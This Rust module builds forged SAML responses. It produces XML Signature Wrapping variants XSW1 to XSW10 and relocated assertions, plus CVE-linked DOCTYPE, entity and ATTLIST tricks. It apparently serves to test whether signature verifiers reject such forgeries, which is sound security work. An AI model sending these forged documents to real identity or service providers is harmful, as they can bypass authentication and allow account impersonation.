//! Signed elements moved, and others put where they were looked for.

use super::{DSIG, Parts, append, evil, extensions, in_status, named, object, prepend};
use roxmltree::Document;

pub fn of_the_response(parts: &Parts, add: &mut impl FnMut(&str, String)) {
    let signature = parts.response_signature.clone().unwrap();
    let clone = parts.bare(&parts.response, Some(&signature));
    let whole = evil(parts.text(&parts.response), Some("_evil"));
    let mark = evil(parts.text(&signature), None);
    add("XSW1", whole.replacen(&mark, &append(&mark, &clone), 1));
    add("XSW2", whole.replacen(&mark, &format!("{clone}{mark}"), 1));
    add(
        "XSW1 in an object",
        whole.replacen(&mark, &append(&mark, &object(&clone)), 1),
    );
    add(
        "XSW2 in extensions",
        whole.replacen(&mark, &format!("{mark}{}", extensions(&clone)), 1),
    );
    add("the response's ID kept", evil(parts.text(&parts.response), None));
    let stripped = evil(&parts.bare(&parts.response, Some(&signature)), None);
    add("the response's signature left out", stripped);
    // The signed response lies in the status of another.
    let bare = evil(&clone, Some("_evil"));
    add(
        "the signed response in a status",
        in_status(&bare, parts.text(&parts.response)),
    );
}

pub fn of_the_assertion(parts: &Parts, add: &mut impl FnMut(&str, String)) {
    let signature = parts.assertion_signature.clone().unwrap();
    let mark = parts.text(&signature);
    let original = parts.text(&parts.assertion);
    let bare = parts.bare(&parts.assertion, Some(&signature));
    let (bad, bad_same_id) = (evil(&bare, Some("_evil")), evil(&bare, None));
    let bad_signed = evil(original, Some("_evil"));
    add("XSW3", parts.with_assertion(&format!("{bad}{original}")));
    add("XSW3 turned", parts.with_assertion(&format!("{original}{bad}")));
    add(
        "XSW3 with one ID",
        parts.with_assertion(&format!("{bad_same_id}{original}")),
    );
    add("XSW4", parts.with_assertion(&append(&bad, original)));
    add(
        "XSW4 at its beginning",
        parts.with_assertion(&prepend(&bad, original)),
    );
    add("XSW5", parts.with_assertion(&format!("{bad_signed}{bare}")));
    add(
        "XSW6",
        parts.with_assertion(&bad_signed.replacen(mark, &append(mark, &bare), 1)),
    );
    add(
        "XSW7",
        parts.with_assertion(&format!("{}{original}", extensions(&bad_same_id))),
    );
    add(
        "XSW7 another ID",
        parts.with_assertion(&format!("{}{original}", extensions(&bad))),
    );
    add(
        "XSW7 turned",
        parts.with_assertion(&format!("{}{bad}", extensions(original))),
    );
    let in_object = append(mark, &object(&bare));
    add(
        "XSW8",
        parts.with_assertion(&evil(original, None).replacen(mark, &in_object, 1)),
    );
    add(
        "XSW8 another ID",
        parts.with_assertion(&bad_signed.replacen(mark, &in_object, 1)),
    );
}

/// Those that move the signature itself.
pub fn of_moved_signatures(parts: &Parts, add: &mut impl FnMut(&str, String)) {
    let signature = parts.assertion_signature.clone().unwrap();
    let mark = parts.text(&signature);
    let original = parts.text(&parts.assertion);
    let bare = parts.bare(&parts.assertion, Some(&signature));
    let (bad, bad_same_id) = (evil(&bare, Some("_evil")), evil(&bare, None));
    let bad_signed = evil(original, Some("_evil"));
    // XSW9 (CVE-2019-3465): two SignedInfo, the true one for the value, the false one for the digest.
    let info = Document::parse(parts.xml).unwrap();
    let info = named(&info, "SignedInfo").unwrap().range();
    let info = parts.text(&info);
    let wrapper = format!("<x:Wrapper xmlns:x=\"urn:x\">{original}</x:Wrapper>");
    add(
        "XSW9",
        parts.with_assertion(&format!(
            "{}{wrapper}",
            bad_signed.replacen(info, &info.repeat(2), 1)
        )),
    );
    let moved = append(mark, &object(original));
    let at = parts.assertion.start;
    let before = parts.xml[..at]
        .find("Issuer>")
        .map(|i| i + parts.xml[i..].find("</").unwrap())
        .unwrap();
    let before = before + parts.xml[before..].find('>').unwrap() + 1;
    let tail = &parts.xml[parts.assertion.end..];
    add(
        "XSW10",
        format!(
            "{}{moved}{}{bad}{tail}",
            &parts.xml[..before],
            &parts.xml[before..at]
        ),
    );
    add("signature left out", parts.with_assertion(&bad_same_id));
    add("signature left out, true content", parts.with_assertion(&bare));
    add("content changed", parts.with_assertion(&evil(original, None)));
    add(
        "signature moved to the response",
        format!(
            "{}{mark}{}{bare}{tail}",
            &parts.xml[..before],
            &parts.xml[before..at]
        ),
    );
    add(
        "two signatures",
        parts.with_assertion(&original.replacen(mark, &format!("{mark}{mark}"), 1)),
    );
    add(
        "no issuer before the signature",
        parts.with_assertion(&prepend(&bare, mark)),
    );
}

pub fn of_places(parts: &Parts, add: &mut impl FnMut(&str, String)) {
    let original = parts.text(&parts.assertion);
    let bare = parts.bare(&parts.assertion, parts.assertion_signature.as_ref());
    let bad = evil(&bare, Some("_evil"));
    let statement = "urn:oasis:names:tc:SAML:2.0:assertion";
    let inside = |name: &str| {
        append(
            &bad,
            &format!("<x:{name} xmlns:x=\"{statement}\">{original}</x:{name}>"),
        )
    };
    add("assertion in advice", parts.with_assertion(&inside("Advice")));
    add(
        "assertion in a statement",
        parts.with_assertion(&inside("AttributeStatement")),
    );
    let value = format!(
        "<x:AttributeStatement xmlns:x=\"{statement}\"><x:Attribute Name=\"a\"><x:AttributeValue>{original}</x:AttributeValue></x:Attribute></x:AttributeStatement>"
    );
    add(
        "assertion in an attribute",
        parts.with_assertion(&append(&bad, &value)),
    );
    let encrypted =
        format!("<x:EncryptedAssertion xmlns:x=\"{statement}\">{original}</x:EncryptedAssertion>");
    add("assertion in an encrypted one", parts.with_assertion(&encrypted));
    add(
        "encrypted one beside",
        parts.with_assertion(&format!("{encrypted}{bad}")),
    );
    let foreign = evil(&bare, Some("_evil")).replace(
        "urn:oasis:names:tc:SAML:2.0:assertion",
        "urn:oasis:names:tc:SAML:2.1:assertion",
    );
    add(
        "assertion of another namespace",
        parts.with_assertion(&format!("{foreign}{original}")),
    );
    let lower = original
        .replace("Assertion ", "assertion ")
        .replace("Assertion>", "assertion>");
    add(
        "assertion in lower case",
        parts.with_assertion(&format!("{lower}{bad}")),
    );
    let entity = format!(
        "<!DOCTYPE r [<!ENTITY i \"_evil\">]>{}",
        parts.with_assertion(&format!("{}{original}", evil(&bare, Some("&i;"))))
    );
    add("CVE-2025-23369 an ID by an entity", entity);
    let attlist = format!(
        "<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA #FIXED \"{DSIG}\">]>{}",
        parts.with_assertion(&evil(original, None))
    );
    add("CVE-2025-25292 a namespace by a document type", attlist);
    let doctype = format!(
        "<!DOCTYPE r [ <!ENTITY a '\"'> ]>{}",
        parts.with_assertion(&format!("{bad}<!--{original}-->"))
    );
    add("CVE-2025-25291 a document type in quotes", doctype);
}
